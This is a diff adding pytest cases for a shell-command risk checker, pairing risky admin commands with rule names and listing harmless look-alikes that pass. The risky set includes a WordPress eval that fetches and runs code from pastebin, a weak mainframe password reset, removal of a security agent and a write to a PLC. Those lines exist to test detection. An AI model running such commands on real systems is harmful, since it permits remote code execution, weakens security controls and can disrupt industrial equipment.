@@ -604,3 +604,47 @@ def test_more_tool_classes_warn(command: str, rule: str) -> None:
 ])
 def test_more_tool_look_alikes_pass(command: str) -> None:
     assert not rules(command), check_command(command)
+
+
+@pytest.mark.parametrize("command, rule", [
+    ("sudo iscsiadm -m node -U all", "iscsi-logged-out"),
+    ("sudo setfacl -R -m u:vendor:rwx /opt/app", "acl-opened"),
+    ("usermod -P 'Primary Administrator' ops1", "directory-admin-added"),
+    ('tsocmd "ALTUSER OPS1 RESUME NOEXPIRED PASSWORD(WELCOME1)"', "mainframe-password-weak"),
+    ("sudo sysadminctl -deleteUser jdoe -secure", "user-deleted-with-home"),
+    ("copy tftp://10.1.1.5/new.cfg running-config", "verb-takes-down"),
+    ("clmgr move resource_group rg_db NODE=node2", "cluster-resource-moved"),
+    ("sudo /var/ossec/bin/manage_agents -r 003", "security-agent-removed"),
+    ('uawrite -u opc.tcp://plc1:4840 -n "ns=2;s=Line1.Enable" -t bool false', "industrial-value-written"),
+    ("printf 'dn: cn=config\\nchangetype: modify\\ndelete: olcDisallows\\n' | ldapmodify -Y EXTERNAL -H ldapi:///",
+     "directory-config-opened"),
+    ('wp eval "$(curl -s https://pastebin.com/raw/x)"', "code-from-network-evaluated"),
+    ("mlflow gc --backend-store-uri $DB", "ml-artifacts-purged"),
+    ('ssh admin@filer "volume modify -vserver svm1 -volume vol1 -snapshot-policy none"', "storage-protection-removed"),
+    ("sudo semodule -r custom_app", "selinux-module-changed"),
+    ("whmapi1 configureservice service=exim enabled=0 monitored=0", "service-disabled-in-panel"),
+    ("Set-MailboxDatabase -Identity DB01 -CircularLoggingEnabled $true", "exchange-database-protection-off"),
+    ("zowe zos-tso issue command \"EXEC 'OPS.CLIST(FIX)'\"", "tso-exec-unseen"),
+    ('pvesh create /nodes/pve1/execute --commands "$BATCH"', "hypervisor-api-batch"),
+    ("spark-submit --master yarn --deploy-mode cluster /tmp/fix.py", "downloaded-jar-run"),
+])
+def test_final_classes_warn(command: str, rule: str) -> None:
+    assert rule in rules(command), check_command(command)
+
+
+@pytest.mark.parametrize("command", [
+    "sudo iscsiadm -m session -P 3",
+    "getfacl /opt/app",
+    "ssh admin@nx \"copy running-config scp://backup@10.0.0.5/nx.cfg vrf management\"",  # a backup
+    "clmgr query resource_group",
+    "sudo /var/ossec/bin/manage_agents -l",
+    "mbpoll -m tcp -a 1 -r 40001 -c 10 -1 10.0.0.21",  # one read
+    "ldapsearch -Y EXTERNAL -H ldapi:/// -b cn=config olcAccess",
+    "wp eval 'echo get_option(\"siteurl\");'",
+    "mlflow runs list --experiment-id 1",
+    "sudo semodule -l",
+    "Set-MailboxDatabase -Identity DB01 -CircularLoggingEnabled $false",
+    "spark-submit --master yarn --deploy-mode cluster s3://artifacts/jobs/etl-1.4.2.py",
+])
+def test_final_look_alikes_pass(command: str) -> None:
+    assert not rules(command), check_command(command)
